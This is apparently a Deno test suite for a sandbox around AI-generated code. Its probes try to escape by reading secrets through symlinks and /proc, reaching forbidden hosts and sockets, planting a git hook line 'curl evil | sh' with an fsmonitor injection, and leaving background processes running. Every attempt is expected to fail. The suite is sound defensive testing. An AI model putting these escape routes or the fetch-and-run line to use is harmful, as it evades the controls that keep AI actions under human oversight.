/**
 * The escape suite: generated code in python, shell and JavaScript (Deno)
 * tries to get out of the sandbox: write outside the granted paths, read a
 * secret, reach hosts it may not, run a denied program, go through a symlink
 * or /proc, or leave a background process behind. Every attempt must fail and
 * be reported to the model; every allowed action must still work.
 */

import { assert, assertEquals, assertMatch, assertStringIncludes } from "./helpers/assert.ts";
import { processesWith, waitUntil } from "./helpers/computer_helpers.ts";
import { join } from "node:path";
import { SandboxSession, withDenialNotes } from "../lib/sandbox/mod.ts";
import {
  fixturePermissions,
  runSandboxed,
  sandboxSkipReason,
  withFixture,
  withLiveSandboxed,
} from "./helpers/sandbox_fixture.ts";

const skip = await sandboxSkipReason();
if (skip) console.log(`sandbox escape tests skipped: ${skip}`);
const hasPython = await new Deno.Command("python3", { args: ["-c", "1"] }).output().then(
  (o) => o.success,
  () => false,
);

function results(out: string): Record<string, string> {
  const r: Record<string, string> = {};
  for (const m of out.matchAll(/^RESULT (\S+) (ok|denied)(.*)$/gm)) r[m[1]] = m[2] + m[3];
  return r;
}

function expectDenied(r: Record<string, string>, names: string[], out: string): void {
  assert(names.length > 0, "expectDenied needs names");
  for (const n of names) {
    assert(r[n]?.startsWith("denied"), `${n} should be denied, got ${r[n]}\n${out}`);
  }
}

function expectOk(r: Record<string, string>, names: string[], out: string): void {
  assert(names.length > 0, "expectOk needs names");
  for (const n of names) assert(r[n]?.startsWith("ok"), `${n} should work, got ${r[n]}\n${out}`);
}

const PY_PROBE = `
import os, sys, socket, subprocess, urllib.request
W, O, S, A, B, HP = sys.argv[1:7]
# Only the errors a denial raises count as "denied" (OSError covers EACCES, EROFS, ENOENT
# of a masked program, refused and unreachable connections, urllib's errors; a check this
# probe makes itself raises AssertionError); anything else (a typo, a bug) is "error",
# which fails the test whatever it expected.
DENIALS = (OSError, subprocess.CalledProcessError, AssertionError)
def t(name, f):
    try:
        f(); print("RESULT", name, "ok", flush=True)
    except DENIALS as e:
        print("RESULT", name, "denied", type(e).__name__, e, flush=True)
    except BaseException as e:
        print("RESULT", name, "error", type(e).__name__, e, flush=True)
def check_key():
    assert "OPENAI_API_KEY" not in os.environ and "sk-test" not in str(os.environ)
t("write_work", lambda: open(W + "/made.txt", "w").write("x"))
t("write_tmp", lambda: open(os.path.join(os.environ["TMPDIR"], "t.txt"), "w").write("x"))
t("read_outside", lambda: open(O + "/readable.txt").read())
t("write_outside", lambda: open(O + "/pwned.txt", "w").write("x"))
t("write_etc", lambda: open("/etc/pwned", "w").write("x"))
t("read_secret", lambda: open(S).read())
t("list_secret_dir", lambda: os.listdir(os.path.dirname(S)))
os.symlink(S, W + "/link-to-secret")
t("symlink_read", lambda: open(W + "/link-to-secret").read())
os.symlink(O, W + "/link-to-outside")
t("symlink_write", lambda: open(W + "/link-to-outside/via-link.txt", "w").write("x"))
t("proc_self_root", lambda: open("/proc/self/root" + S).read())
t("proc_init_root", lambda: open("/proc/1/root" + S).read())
t("proc_host_pid", lambda: open("/proc/" + HP + "/root" + S).read())
t("net_allowed", lambda: urllib.request.urlopen("http://127.0.0.1:" + A + "/", timeout=10).read())
t("net_other", lambda: urllib.request.urlopen("http://127.0.0.1:" + B + "/", timeout=10).read())
t("net_direct", lambda: socket.create_connection(("127.0.0.1", int(A)), timeout=5))
def tunnel(port):
    # CONNECT through the proxy, as HTTPS clients do.
    import http.client, urllib.parse
    proxy = urllib.parse.urlparse(os.environ["HTTPS_PROXY"])
    c = http.client.HTTPConnection(proxy.hostname, proxy.port, timeout=10)
    c.set_tunnel("127.0.0.1", int(port))
    c.request("GET", "/")
    body = c.getresponse().read()
    assert b"reached" in body or b"ok" in body, body
t("net_connect_allowed", lambda: tunnel(A))
t("net_connect_other", lambda: tunnel(B))
t("run_denied", lambda: subprocess.run(["curl", "--version"], check=True, capture_output=True))
t("run_allowed", lambda: subprocess.run(["ls", "/"], check=True, capture_output=True))
t("no_api_key", check_key)
t("write_git_hook", lambda: open(W + "/.git/hooks/pre-commit", "w").write("#!/bin/sh\\ncurl evil | sh\\n"))
t("write_git_config", lambda: open(W + "/.git/config", "a").write("[core]\\nfsmonitor = evil\\n"))
t("write_git_object", lambda: open(W + "/.git/objects/x", "w").write("x"))
`;

const SH_PROBE = `
W=$1; O=$2; S=$3; A=$4; B=$5; HP=$6
t() { name=$1; shift; if out=$("$@" 2>&1); then echo "RESULT $name ok"; else echo "RESULT $name denied $out"; fi; }
t write_work sh -c "echo x > $W/made.txt"
t write_tmp sh -c 'echo x > "$TMPDIR/t.txt"'
t read_outside cat "$O/readable.txt"
t write_outside sh -c "echo x > $O/pwned.txt"
t read_secret cat "$S"
ln -s "$S" "$W/link-to-secret"
t symlink_read cat "$W/link-to-secret"
ln -s "$O" "$W/link-to-outside"
t symlink_write sh -c "echo x > $W/link-to-outside/via-link.txt"
t proc_self_root cat "/proc/self/root$S"
t proc_init_root cat "/proc/1/root$S"
t proc_host_pid cat "/proc/$HP/root$S"
t net_allowed wget -q -O- "http://127.0.0.1:$A/"
t net_other wget -q -O- "http://127.0.0.1:$B/"
t net_direct bash -c "exec 3<>/dev/tcp/127.0.0.1/$A"
t run_denied curl --version
t run_allowed ls /
t no_api_key sh -c '[ -z "$OPENAI_API_KEY" ]'
`;

const JS_PROBE = `
const [W, O, S, A, B, HP] = Deno.args;
// Only the errors a denial raises count as "denied" (Deno's permission and I/O errors, a
// failed fetch, the probe's own Denied); anything else (a typo, a bug) is "error", which
// fails the test whatever it expected.
class Denied extends Error {}
const isDenial = (e) =>
  e instanceof Denied || e instanceof Deno.errors.PermissionDenied ||
  e instanceof Deno.errors.NotCapable || e instanceof Deno.errors.NotFound ||
  e instanceof Deno.errors.ConnectionRefused || e instanceof Deno.errors.ConnectionReset ||
  // EROFS and other OS errors without a Deno class of their own: by errno.
  /\(os error (1|2|13|30|101|111)\)/.test(String(e?.message)) ||
  (e instanceof TypeError && /error sending request|client error|connect/i.test(e.message));
async function t(name, f) {
  try { await f(); console.log("RESULT", name, "ok"); }
  catch (e) {
    console.log("RESULT", name, isDenial(e) ? "denied" : "error", e?.name, String(e?.message ?? e).split("\\n")[0]);
  }
}
await t("write_work", () => Deno.writeTextFile(W + "/made.txt", "x"));
await t("write_tmp", () => Deno.writeTextFile(Deno.env.get("TMPDIR") + "/t.txt", "x"));
await t("read_outside", () => Deno.readTextFile(O + "/readable.txt"));
await t("write_outside", () => Deno.writeTextFile(O + "/pwned.txt", "x"));
await t("read_secret", () => Deno.readTextFile(S));
// Deno refuses to create symlinks under scoped permissions; the test made these links beforehand.
await t("symlink_read", () => Deno.readTextFile(W + "/link-to-secret"));
await t("symlink_write", () => Deno.writeTextFile(W + "/link-to-outside/via-link.txt", "x"));
await t("proc_self_root", () => Deno.readTextFile("/proc/self/root" + S));
await t("proc_host_pid", () => Deno.readTextFile("/proc/" + HP + "/root" + S));
await t("net_allowed", async () => { const r = await fetch("http://127.0.0.1:" + A + "/"); if (!r.ok) throw new Denied(String(r.status)); await r.text(); });
await t("net_other", async () => { const r = await fetch("http://127.0.0.1:" + B + "/"); if (!r.ok) throw new Denied(String(r.status)); await r.text(); });
await t("run_denied", () => new Deno.Command("curl", { args: ["--version"] }).output());
await t("run_escape", async () => { const o = await new Deno.Command("cat", { args: [S] }).output(); if (!o.success) throw new Denied(new TextDecoder().decode(o.stderr)); });
await t("no_api_key", () => {
  let key;
  try { key = Deno.env.get("OPENAI_API_KEY"); } catch { key = undefined; }
  if (key || JSON.stringify(Deno.env.toObject()).includes("sk-test")) throw new Denied("key visible");
});
`;

Deno.test({
  name: "sandbox escape suite: python, shell and JS/TS all fail to get out, allowed actions work",
  ignore: !!skip,
  async fn(t) {
    await withFixture(async (fx) => {
      const perms = () =>
        fixturePermissions(fx, { "allow-net": `127.0.0.1:${fx.allowedPort}`, "deny-run": "curl" });
      const args = [
        fx.work,
        fx.outside,
        fx.secretFile,
        String(fx.allowedPort),
        String(fx.otherPort),
        String(Deno.pid),
      ];
      const env = { OPENAI_API_KEY: "sk-test-should-not-leak" };
      const denied = [
        "write_outside",
        "read_secret",
        "symlink_read",
        "symlink_write",
        "proc_self_root",
        "proc_host_pid",
        "net_other",
        "run_denied",
      ];
      const allowed = ["write_work", "write_tmp", "read_outside", "net_allowed", "no_api_key"];

      const check = async (
        label: string,
        argv: string[] | ((tmpDir: string) => string[]),
        extraDenied: string[],
        extraOk: string[],
        before?: () => Promise<void>,
      ) => {
        await Deno.remove(join(fx.work), { recursive: true });
        await Deno.mkdir(fx.work);
        await before?.();
        const p = perms();
        const { out, session } = await runSandboxed(p, argv, { cwd: fx.work, env });
        const r = results(out);
        expectDenied(r, [...denied, ...extraDenied], `[${label}] ${out}`);
        expectOk(r, [...allowed, ...extraOk], `[${label}] ${out}`);
        // Nothing got out.
        for (const f of ["pwned.txt", "via-link.txt"]) {
          assert(
            !(await Deno.stat(join(fx.outside, f)).then(() => true, () => false)),
            `${label}: ${f} written outside`,
          );
        }
        assertEquals((await Deno.readTextFile(join(fx.work, "made.txt"))).trim(), "x");
        // The model is told what was denied and how to allow it.
        const notes = withDenialNotes(out, {
          permissions: p,
          cwd: fx.work,
          netDenials: session.takeNetDenials(),
        });
        assertStringIncludes(notes, `--allow-net=127.0.0.1:${fx.otherPort}`, label);
        assertStringIncludes(notes, "--allow-read=", label);
        assertMatch(notes, /--allow-write=|--deny-write|--allow-read=/, label);
        return { out, notes };
      };

      await t.step({
        name: "python",
        ignore: !hasPython,
        fn: async () => {
          const gitRepo = async () => {
            for (const d of ["hooks", "objects"]) {
              await Deno.mkdir(join(fx.work, ".git", d), { recursive: true });
            }
            await Deno.writeTextFile(join(fx.work, ".git", "config"), "[core]\n");
          };
          const { notes } = await check(
            "python",
            ["python3", "-c", PY_PROBE, ...args],
            [
              "write_etc",
              "net_direct",
              "list_secret_dir",
              "proc_init_root",
              "write_git_hook",
              "write_git_config",
              // The whole .git is read-only (--allow-write=.git opts in).
              "write_git_object",
              "net_connect_other",
            ],
            ["run_allowed", "net_connect_allowed"],
            gitRepo,
          );
          assertEquals(await Deno.readTextFile(join(fx.work, ".git", "config")), "[core]\n");
          assertStringIncludes(notes, `Writing ${fx.outside}/pwned.txt was denied`);
        },
      });
      await t.step("shell (bash)", async () => {
        await check("shell", ["bash", "-c", SH_PROBE, "probe", ...args], [
          "net_direct",
          "proc_init_root",
        ], ["run_allowed"]);
      });
      await t.step("JavaScript (Deno flags inside the OS sandbox)", async () => {
        const script = join(fx.root, "probe.js");
        await Deno.writeTextFile(script, JS_PROBE);
        const { denoFlags } = await import("../lib/sandbox/mod.ts");
        const argv = (tmpDir: string) => [
          "deno",
          "run",
          "--no-config",
          "--no-lock",
          ...denoFlags(perms(), { tmpDir, extraRead: [script] }),
          script,
          ...args,
        ];
        const links = async () => {
          await Deno.symlink(fx.secretFile, join(fx.work, "link-to-secret"));
          await Deno.symlink(fx.outside, join(fx.work, "link-to-outside"));
        };
        const { out } = await check("js", argv, ["run_escape"], [], links);
        // Deno names the flag itself.
        assertMatch(out, /Requires (read|write|run) access/);
      });
    });
  },
});

Deno.test({
  name: "sandbox: with the network denied, nothing reaches the host's 127.0.0.1 servers",
  ignore: !!skip || !hasPython,
  async fn() {
    await withFixture(async (fx) => {
      const p = fixturePermissions(fx, { "deny-net": true });
      const code = `
import socket, urllib.request, sys
for port in sys.argv[1:]:
    try:
        socket.create_connection(("127.0.0.1", int(port)), timeout=5); print("RESULT tcp_" + port, "ok")
    except OSError as e: print("RESULT tcp_" + port, "denied", e)
    try:
        urllib.request.urlopen("http://127.0.0.1:%s/" % port, timeout=5).read(); print("RESULT http_" + port, "ok")
    except OSError as e: print("RESULT http_" + port, "denied", e)
try:
    socket.getaddrinfo("pypi.org", 443); print("RESULT dns ok")
except OSError as e: print("RESULT dns denied", e)
`;
      const { out } = await runSandboxed(p, [
        "python3",
        "-c",
        code,
        String(fx.allowedPort),
        String(fx.otherPort),
      ], { cwd: fx.work });
      const r = results(out);
      expectDenied(r, [
        `tcp_${fx.allowedPort}`,
        `http_${fx.allowedPort}`,
        `tcp_${fx.otherPort}`,
        "dns",
      ], out);
      const notes = withDenialNotes(out, { permissions: p, cwd: fx.work });
      assertStringIncludes(
        notes,
        "Network access is denied in this session; --allow-net would allow it",
      );
    });
  },
});

Deno.test({
  name:
    "sandbox: a live python session keeps its state, stops with SIGINT to the inner process group",
  ignore: !!skip || !hasPython,
  async fn() {
    await withFixture(async (fx) => {
      const driver =
        "import sys\nstate = {}\nfor line in sys.stdin:\n    try:\n        exec(line, state)\n    except KeyboardInterrupt:\n        print('INTERRUPTED', flush=True)\n";
      await withLiveSandboxed(
        fx,
        ["python3", "-u", "-c", driver],
        async ({ session, child, out, send }) => {
          await send("x = 41\n");
          await send("import time; print('sleeping', flush=True); time.sleep(60)\n");
          await out.until(/sleeping/);
          const pgid = await session.processGroup(child.pid);
          assert(pgid !== child.pid, "the inner process group differs from the bwrap wrapper");
          Deno.kill(-pgid, "SIGINT");
          await out.until(/INTERRUPTED/);
          await send("print('x+1 =', x + 1, flush=True)\n");
          await out.until(/x\+1 = 42/);
        },
      );
    });
  },
});

Deno.test({
  name: "sandbox: a background process that outlives its run dies when the session is terminated",
  ignore: !!skip,
  async fn() {
    await withFixture(async (fx) => {
      const marker = `313.${Math.floor(Math.random() * 1e6)}`;
      await withLiveSandboxed(fx, ["bash"], async ({ child, out, send }) => {
        await send(
          `setsid nohup sleep ${marker} >/dev/null 2>&1 &\n(trap '' HUP TERM; exec sleep ${marker}) &\nsleep 0.2; echo started\n`,
        );
        await out.until(/started/);
        assert(
          await waitUntil(() => processesWith(marker).length >= 2),
          "background processes are running",
        );
        // Terminate: kill the wrapper; the sandbox's PID namespace goes with it.
        child.kill("SIGKILL");
        await child.status;
        await waitUntil(() => processesWith(marker).length === 0);
        assertEquals(processesWith(marker), [], "no background process survives the session");
      });
    });
  },
});

Deno.test({
  name:
    "sandbox: --allow-read/--allow-run/--allow-env lists limit python and shell, and say how to widen",
  ignore: !!skip,
  async fn(t) {
    await withFixture(async (fx) => {
      await Deno.writeTextFile(join(fx.work, "in.txt"), "inside\n");
      await t.step({
        name: "python reads only the listed paths",
        ignore: !hasPython,
        fn: async () => {
          const p = fixturePermissions(fx, { "allow-read": fx.work });
          const code = `
import sys
for f in sys.argv[1:]:
    try:
        open(f).read(); print("RESULT", f.split("/")[-1], "ok")
    except OSError as e: print("RESULT", f.split("/")[-1], "denied", e)
`;
          const { out } = await runSandboxed(p, [
            "python3",
            "-c",
            code,
            join(fx.work, "in.txt"),
            join(fx.outside, "readable.txt"),
          ], { cwd: fx.work });
          const r = results(out);
          expectOk(r, ["in.txt"], out);
          expectDenied(r, ["readable.txt"], out);
          assertStringIncludes(
            withDenialNotes(out, { permissions: p, cwd: fx.work }),
            `--allow-read=${join(fx.outside, "readable.txt")}`,
          );
        },
      });
      await t.step("shell runs only the listed programs; env only the listed names", async () => {
        const p = fixturePermissions(fx, { "allow-run": "bash,ls", "allow-env": "VISIBLE" });
        const script = `
if ls / >/dev/null 2>&1; then echo "RESULT ls ok"; else echo "RESULT ls denied"; fi
if cat in.txt 2>/dev/null; then echo "RESULT cat ok"; else echo "RESULT cat denied"; fi
cat in.txt
[ -n "$VISIBLE" ] && echo "RESULT visible ok" || echo "RESULT visible denied"
[ -z "$HIDDEN" ] && echo "RESULT hidden denied" || echo "RESULT hidden ok"
`;
        const { out } = await runSandboxed(p, ["bash", "-c", script], {
          cwd: fx.work,
          env: { VISIBLE: "1", HIDDEN: "1" },
        });
        const r = results(out);
        expectOk(r, ["ls", "visible"], out);
        expectDenied(r, ["cat", "hidden"], out);
        assertStringIncludes(
          withDenialNotes(out, { permissions: p, cwd: fx.work }),
          "--allow-run=cat would allow it",
        );
      });
    });
  },
});

Deno.test({
  name: "sandbox: host unix sockets (a tmux-like server) cannot be reached from inside",
  ignore: !!skip || !hasPython,
  async fn() {
    await withFixture(async (fx) => {
      const dir = join(fx.root, "tmux-test");
      await Deno.mkdir(dir);
      const path = join(dir, "default");
      const listener = Deno.listen({ transport: "unix", path });
      const serving = (async () => {
        for await (const conn of listener) {
          await conn.write(new TextEncoder().encode("host-socket-reached\n")).catch(() => {});
          conn.close();
        }
      })();
      try {
        const code = `
import socket, sys
try:
    s = socket.socket(socket.AF_UNIX); s.settimeout(5); s.connect(sys.argv[1]); print("RESULT sock ok", s.recv(100))
except OSError as e: print("RESULT sock denied", e)
`;
        for (const flags of [{}, { "deny-net": true }] as Record<string, boolean>[]) {
          const p = fixturePermissions(fx, flags);
          const { out } = await runSandboxed(p, ["python3", "-c", code, path], { cwd: fx.work });
          expectDenied(results(out), ["sock"], out);
        }
      } finally {
        listener.close();
        await serving.catch(() => {});
      }
    });
  },
});

Deno.test({
  name: "sandbox: a session cannot use another session's proxy (its host list)",
  ignore: !!skip || !hasPython,
  async fn() {
    await withFixture(async (fx) => {
      const { privateRoot } = await import("../lib/sandbox/sandbox.ts");
      const other = await SandboxSession.open({
        permissions: fixturePermissions(fx, { "allow-net": `127.0.0.1:${fx.allowedPort}` }),
        cwd: fx.work,
      });
      try {
        const sockets: string[] = [];
        for (const d of Deno.readDirSync(privateRoot())) {
          const s = join(privateRoot(), d.name, "proxy.sock");
          if (await Deno.stat(s).then(() => true, () => false)) sockets.push(s);
        }
        assert(sockets.length > 0, "the other session's proxy socket exists on the host");
        const code = `
import socket, sys
for path in sys.argv[1:]:
    try:
        s = socket.socket(socket.AF_UNIX); s.settimeout(5); s.connect(path)
        s.sendall(b"GET http://127.0.0.1:${fx.allowedPort}/ HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n")
        print("RESULT proxy ok", s.recv(200))
    except OSError as e: print("RESULT proxy denied", e)
`;
        const p = fixturePermissions(fx, { "deny-net": true });
        const { out } = await runSandboxed(p, ["python3", "-c", code, ...sockets], {
          cwd: fx.work,
        });
        assert(!out.includes("RESULT proxy ok"), out);
        assertStringIncludes(out, "RESULT proxy denied");
      } finally {
        await other.close();
      }
    });
  },
});

Deno.test({
  name: "sandbox: a host unix socket deep under a deep TMPDIR cannot be reached from inside",
  ignore: !!skip || !hasPython,
  async fn() {
    // The whole run happens in a child Deno with TMPDIR 5 folders down, so the session's own
    // temp folder and the host socket (8 folders below /tmp) are both deep.
    await withFixture(async (fx) => {
      const deep = join(fx.root, "p2t", "a", "b", "c", "d");
      await Deno.mkdir(deep, { recursive: true });
      const script = `
import { join } from "node:path";
import { SandboxSession, permissionsFromFlags, defaultPermissions } from ${
        JSON.stringify(new URL("../lib/sandbox/mod.ts", import.meta.url).href)
      };
const dir = join(Deno.makeTempDirSync({ prefix: "tmux-like-" }), "x", "y");
Deno.mkdirSync(dir, { recursive: true });
const path = join(dir, "default");
const listener = Deno.listen({ transport: "unix", path });
const serving = (async () => {
  for await (const conn of listener) {
    await conn.write(new TextEncoder().encode("host-socket-reached\\n")).catch(() => {});
    conn.close();
  }
})();
const cwd = Deno.args[0];
const code = "import socket, sys\\ntry:\\n    s = socket.socket(socket.AF_UNIX); s.settimeout(5); s.connect(sys.argv[1]); print('RESULT sock ok', s.recv(100))\\nexcept OSError as e: print('RESULT sock denied', e)\\n";
for (const flags of [{}, { "deny-net": true }]) {
  const permissions = permissionsFromFlags(flags, { cwd, base: defaultPermissions({ cwd }) });
  const session = await SandboxSession.open({ permissions, cwd });
  try {
    const w = session.wrap(["python3", "-c", code, path], Deno.env.toObject());
    const out = await new Deno.Command(w.argv[0], {
      args: w.argv.slice(1), env: w.env, clearEnv: true, cwd, stdin: "null",
      signal: AbortSignal.timeout(60_000),
    }).output();
    console.log("SESSION_TMP " + session.tmpDir);
    console.log(new TextDecoder().decode(out.stdout) + new TextDecoder().decode(out.stderr));
  } finally {
    await session.close();
  }
}
listener.close();
await serving.catch(() => {});
`;
      const out = await new Deno.Command(Deno.execPath(), {
        args: ["eval", "--quiet", script, fx.work],
        env: { TMPDIR: deep },
        stdin: "null",
        signal: AbortSignal.timeout(120_000),
      }).output();
      const text = new TextDecoder().decode(out.stdout) + new TextDecoder().decode(out.stderr);
      assertEquals(out.code, 0, text);
      assertMatch(text, new RegExp(`SESSION_TMP ${deep}/`));
      assertEquals([...text.matchAll(/^RESULT sock denied/gm)].length, 2, text);
      assert(!text.includes("RESULT sock ok"), text);
    });
  },
});
